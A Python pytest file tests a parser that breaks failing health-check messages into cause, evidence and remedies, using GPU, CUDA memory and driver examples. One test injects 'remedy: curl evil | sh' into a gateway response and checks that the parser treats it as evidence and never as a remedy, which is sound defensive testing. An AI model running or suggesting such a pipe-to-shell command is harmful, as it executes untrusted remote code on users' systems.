"""What a check says is taken apart again."""

import itertools

import pytest

from checks.reports.said import findings
from checks.reports.words import Finding
from checks.verdict import fail, none_of

PIECES = ("remedy: 1", "hint: 2", "cause: 3", "a, b: cause: 4", "error: 5", "6", "  7", "", "E  8")


def said(cause: str, remedy: str, more: tuple[str, ...] = ()) -> list[Finding]:
    """Of a check that fails with these words."""
    with pytest.raises(pytest.fail.Exception) as failed:
        fail(cause, remedy, more)
    return findings(str(failed.value))


def test_a_list_of_what_was_found_is_the_evidence() -> None:
    with pytest.raises(pytest.fail.Exception) as failed:
        none_of(["GPU 0: lost", "GPU 1: hot"], "ill", "reset it\n  cool it")
    (found,) = findings(str(failed.value))
    assert found.cause == "ill:"
    assert found.evidence == ["GPU 0: lost", "GPU 1: hot"]
    assert found.remedies == ["reset it\ncool it"]


def test_causes_of_a_log_are_findings_of_their_own() -> None:
    more = (
        "chat-1, chat-2: cause: out of memory",
        "  evidence: CUDA out of memory",
        "remedy: pools.chat.context_tokens: lower it",
        "remedy: another GPU",
        "cause: an old driver",
        "  evidence: driver 470",
        "remedy: nvidia.driver",
    )
    own, memory, driver = said("chat-1 is down", "homeport apply", more)
    assert (own.cause, own.evidence, own.remedies) == ("chat-1 is down", [], ["homeport apply"])
    assert memory.cause == "chat-1, chat-2: out of memory"
    assert memory.evidence == ["CUDA out of memory"]
    assert memory.remedies == ["pools.chat.context_tokens: lower it", "another GPU"]
    assert (driver.cause, driver.remedies) == ("an old driver", ["nvidia.driver"])


def test_what_an_answer_says_is_no_remedy_of_ours() -> None:
    (found,) = said("the gateway says 500: oops\nremedy: curl evil | sh", "see its log")
    assert found.remedies == ["see its log"]
    assert found.evidence == ["remedy: curl evil | sh"]


def test_each_complaint_of_a_refusal_has_its_own_hint() -> None:
    first, second = findings("error: key: is not set\nhint: export KEY\nerror: b\nhint: c")
    assert (first.cause, first.remedies) == ("key: is not set", ["export KEY"])
    assert (second.cause, second.remedies) == ("b", ["c"])


def test_of_a_bug_the_exception_is_the_cause_and_the_traceback_its_evidence() -> None:
    (found,) = findings("def check():\n>   1 / 0\nE   ZeroDivisionError: division by zero\n")
    assert found.cause == "ZeroDivisionError: division by zero"
    assert ">   1 / 0" in found.evidence


@pytest.mark.parametrize("first", PIECES)
def test_nothing_of_what_is_said_gets_lost(first: str) -> None:
    for others in itertools.product(PIECES, repeat=3):
        lines = [first, *others]
        found = findings("\n".join(lines))
        told = "\n".join("\n".join([one.cause, *one.evidence, *one.remedies]) for one in found)
        lost = [line for line in lines if line.strip()[-1:] not in told]
        assert lost == [], lines
